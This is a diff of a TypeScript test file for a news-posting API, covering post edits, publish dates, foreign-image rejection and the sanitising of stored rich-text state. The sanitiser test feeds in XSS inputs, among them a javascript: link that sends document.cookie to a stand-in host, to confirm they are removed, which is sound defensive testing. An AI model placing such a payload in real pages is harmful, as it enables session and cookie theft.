@@ -15,7 +15,7 @@ import { DELETE as deleteAlbumRoute, GET as getAlbumRoute } from '@/app/api/v1.0
 import { GET as feedRoute } from '@/app/api/v1.0/members/news/route';
 import { GET as readRoute } from '@/app/api/v1.0/members/news/[id]/route';
 import { getDb } from '@/lib/db/client';
-import { CHANNEL_INACTIVE, POST_MESSAGES, SCHEDULE_IN_PAST } from '@/lib/news/schemas';
+import { CHANNEL_INACTIVE, FOREIGN_IMAGE, POST_MESSAGES, SCHEDULE_IN_PAST } from '@/lib/news/schemas';
 import { auditLog, newsPosts } from '@/lib/db/schema';
 import { publishDuePosts } from '@/lib/news/posts';
 import { tick } from '@/lib/tick';
@@ -240,6 +240,51 @@ describe('news posts', () => {
     expect((await call(cancelPostRoute, { token: t.contributor, params: { id: String(p.id) }, method: 'DELETE' })).json.data.status).toBe('Cancelled');
   });
 
+  it("saves the editor's whole form on a live post in an inactive channel: a news admin's edit goes through, a contributor's take-down too, a real change of state or words is still refused", async () => {
+    const id = await channel();
+    const p = (await post(id, t.contributor, { is_active: true })).json.data;
+    await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(id) }, method: 'DELETE' });
+    // What the editor sends on every save: title, body and the publishing choice.
+    const save = (token: string, fields: Record<string, unknown>) =>
+      call(updatePostRoute, { token, params: { id: String(p.id) }, body: { title: p.title, body: p.body, is_active: true, scheduled_at: null, ...fields }, method: 'PUT' });
+
+    const edited = await save(t.newsAdmin, { title: 'Fixed by the editor' });
+    expect(edited.status).toBe(200);
+    expect(edited.json.data).toMatchObject({ title: 'Fixed by the editor', status: 'POSTED' });
+    // Publishing again, or scheduling, is still a new state in a channel that takes none.
+    expect((await save(t.newsAdmin, { scheduled_at: new Date(Date.now() + 3_600_000).toISOString(), is_active: false })).json.errors?.[0].message).toBe(CHANNEL_INACTIVE);
+
+    // The contributor's words are not theirs to change there, but the same words again are no change.
+    expect((await save(t.contributor, { title: 'Edited' })).json.errors?.[0].message).toBe(CHANNEL_INACTIVE);
+    const down = await save(t.contributor, { title: 'Fixed by the editor', is_active: false, status: 'Inactive' });
+    expect(down.status).toBe(200);
+    expect(down.json.data).toMatchObject({ title: 'Fixed by the editor', status: 'Inactive', is_active: false });
+  });
+
+  it('dates a post from when it is (re)published: the tick uses the new schedule, a republish uses now, and a scheduled post has none', async () => {
+    const id = await channel();
+    const p = (await post(id, t.contributor, { is_active: true })).json.data;
+    const first = new Date(p.published_at).getTime();
+    const edit = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: fields, method: 'PUT' });
+
+    const later = new Date(Date.now() + 3_600_000);
+    const rescheduled = (await edit({ scheduled_at: later.toISOString() })).json.data;
+    expect(rescheduled).toMatchObject({ status: 'SCHEDULED', published_at: null });
+    const listed = await call(channelPostsRoute, { token: t.contributor, params: { id: String(id) } });
+    expect(listed.json.data.find((x: { id: number }) => x.id === p.id).published_at).toBeNull();
+    await tick(await getDb(), new Date(later.getTime() + 1000));
+    const ticked = await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } });
+    expect(ticked.json.data).toMatchObject({ status: 'POSTED', published_at: later.toISOString() });
+
+    const down = (await edit({ status: 'Inactive' })).json.data;
+    expect(down.published_at).toBe(later.toISOString());
+    const before = Date.now();
+    const again = (await edit({ is_active: true })).json.data;
+    expect(again.status).toBe('POSTED');
+    expect(new Date(again.published_at).getTime()).toBeGreaterThanOrEqual(before);
+    expect(new Date(again.published_at).getTime()).toBeGreaterThan(first);
+  });
+
   it('publishes a scheduled post in the tick at its time; drivers read it newest first, a view counted once a day', async () => {
     const id = await channel();
     const soon = new Date(Date.now() + 60_000);
@@ -279,7 +324,7 @@ describe("a post's stored Lexical state, which other writers' editors open", () 
           { type: 'link', url: 'javascript:fetch(`//evil.test?${document.cookie}`)', children: [text('click me')] },
           { type: 'link', url: 'https://example.com/route', target: '_top', children: [text('route')] },
           { type: 'image', src: 'javascript:alert(1)', altText: 'x' },
-          { type: 'image', src: 'https://cdn.example.com/truck.png', altText: 'truck', width: 300, height: 200 },
+          { type: 'image', src: '/api/v1.0/news/images/1-0123456789abcdef.webp', altText: 'truck', width: 300, height: 200 },
         ],
       },
       { type: 'iframe-embed', src: 'https://evil.test', children: [text('kept text')] },
@@ -295,7 +340,7 @@ describe("a post's stored Lexical state, which other writers' editors open", () 
     expect(first.children[1]).toMatchObject({ type: 'text', text: 'click me' });
     expect(first.children[2]).toMatchObject({ type: 'link', url: 'https://example.com/route', target: null });
     expect(first.children.filter((n: { type: string }) => n.type === 'image')).toEqual([
-      expect.objectContaining({ src: 'https://cdn.example.com/truck.png', width: 300, height: 200 }),
+      expect.objectContaining({ src: '/api/v1.0/news/images/1-0123456789abcdef.webp', width: 300, height: 200 }),
     ]);
     // An unknown block gives way to its text, in a paragraph (the root holds no bare text).
     expect(second).toMatchObject({ type: 'paragraph', children: [{ type: 'text', text: 'kept text' }] });
@@ -320,6 +365,19 @@ describe("a post's stored Lexical state, which other writers' editors open", () 
 });
 
 describe('images, thumbnails, albums and PDF', () => {
+  it('refuses an image linked from another site (the pages show only our own), as Lexical state or HTML, naming the body', async () => {
+    const id = await channel();
+    const linked = body({ type: 'paragraph', children: [{ type: 'image', src: 'https://cdn.example.com/truck.png', altText: 'truck', width: 300, height: 200 }] });
+    for (const value of [linked, '<p>Truck</p><img src="https://cdn.example.com/truck.png" alt="truck">']) {
+      const res = await post(id, t.contributor, { body: value });
+      expect(res.status).toBe(422);
+      expect(res.json.errors[0]).toMatchObject({ field: 'body', message: FOREIGN_IMAGE });
+    }
+    const p = (await post(id)).json.data;
+    const edit = await call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { body: linked }, method: 'PUT' });
+    expect(edit.json.errors[0]).toMatchObject({ field: 'body', message: FOREIGN_IMAGE });
+  });
+
   it('thumbnails follow the body\'s first image: kept while it stays, remade when it changes (old files removed), cleared when it goes', async () => {
     const id = await channel();
     const green = (await upload(id, await png(300, 200))).json.data.image_url;
